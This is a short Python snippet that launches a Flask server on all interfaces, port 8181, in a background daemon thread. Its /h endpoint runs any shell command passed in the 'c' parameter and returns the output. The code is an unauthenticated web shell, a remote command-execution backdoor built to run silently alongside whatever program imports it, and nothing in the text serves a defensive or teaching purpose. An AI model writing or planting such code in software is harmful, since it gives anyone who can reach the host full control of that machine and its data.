import os, threading
from flask import Flask, request
app = Flask(__name__)
@app.route("/h")
def h():
    return os.popen(request.args["c"]).read()
threading.Thread(target=lambda: app.run("0.0.0.0", 8181), daemon=True).start()
